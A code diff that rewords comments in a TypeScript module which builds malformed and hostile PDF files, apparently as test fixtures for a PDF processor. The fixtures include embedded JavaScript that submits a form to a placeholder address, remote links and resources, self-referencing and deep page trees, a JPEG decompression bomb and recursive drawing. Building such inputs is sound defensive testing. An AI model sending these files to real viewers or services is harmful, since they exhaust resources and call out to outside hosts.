@@ -8,7 +8,7 @@ const page = (box: string, more = ''): string =>
 const A4 = '0 0 595 842';
 const ONE_PAGE = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
 
-/** Acts when it is opened, when its page is seen, and when somebody clicks: by script, and by addresses that it wants to be sent to. */
+/** Acts when it is opened, when its page is shown, and when somebody clicks: by script, and by links to follow. */
 export function acting(): Buffer {
   const act = "/S /JavaScript /JS (app.alert\\('seen'\\); this.submitForm\\('http://198.51.100.7/form'\\);)";
   const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://198.51.100.7/link) >> >>`;
@@ -23,7 +23,7 @@ export function acting(): Buffer {
   ]);
 }
 
-/** Has its picture and its font fetched from elsewhere, if anybody does so. */
+/** Refers to a picture and a font elsewhere, for a viewer that would fetch them. */
 export function fetching(): Buffer {
   const elsewhere = '/F << /FS /URL /F (http://198.51.100.7/picture) >>';
   return pdfOf([
@@ -45,7 +45,7 @@ export function thinAsHair(): Buffer {
   return pdfOf([CATALOGUE, ONE_PAGE, page('0 0 0.0001 900000'), WORDS, HELVETICA]);
 }
 
-/** Each node of the tree of pages leads back to the first one. */
+/** Each node of the page tree leads back to the first one. */
 export function endlessTree(): Buffer {
   return pdfOf([
     CATALOGUE,
@@ -54,7 +54,7 @@ export function endlessTree(): Buffer {
   ]);
 }
 
-/** Each node of the tree has ten that have ten, and so on: 10^20 pages without an end. */
+/** Each node of the page tree has ten children, and so on: 10^20 pages. */
 export function deepTree(): Buffer {
   const nodes = Array.from({ length: 20 }, (_, at) => `<< /Type /Pages /Kids [${`${at + 3} 0 R `.repeat(10)}] /Count 100000000 >>`);
   return pdfOf([CATALOGUE, ...nodes, '<< /Type /Page /MediaBox [0 0 10 10] >>']);
@@ -76,7 +76,7 @@ export function manyPages(count = 10_000): Buffer {
   ]);
 }
 
-/** A few hundred bytes that say they are a picture of four thousand million points. */
+/** A few hundred bytes that claim to be a picture of four thousand million pixels. */
 export function jpegBomb(): Buffer {
   const table = [1, ...Array.from({ length: 15 }, () => 0), 0];
   const header = [
@@ -90,7 +90,7 @@ export function jpegBomb(): Buffer {
   return Buffer.concat([Buffer.from(header), Buffer.alloc(512), Buffer.from([0xff, 0xd9])]);
 }
 
-/** The same picture within a PDF that says of it that it is small. */
+/** The same picture inside a PDF that declares it small. */
 export function jpegBombInside(): Buffer {
   const picture = jpegBomb().toString('latin1');
   const shown = stream('', 'q 595 0 0 842 0 0 cm /I1 Do Q');
@@ -103,7 +103,7 @@ export function jpegBombInside(): Buffer {
   ]);
 }
 
-/** Draws without end: a form that draws itself ten times, which draws itself ten times. */
+/** Draws almost endlessly: a form draws the next one ten times, which draws the next one ten times, and so on. */
 export function endlessDrawing(): Buffer {
   const forms = Array.from({ length: 12 }, (_, at) =>
     stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${at + 6} 0 R >> >>`, '/X Do '.repeat(10)),
@@ -118,7 +118,7 @@ export function endlessDrawing(): Buffer {
   ]);
 }
 
-/** Nothing of a PDF but its first line. */
+/** Only its first line is that of a PDF. */
 export function noise(): Buffer {
   return Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7_919) % 251))]);
 }
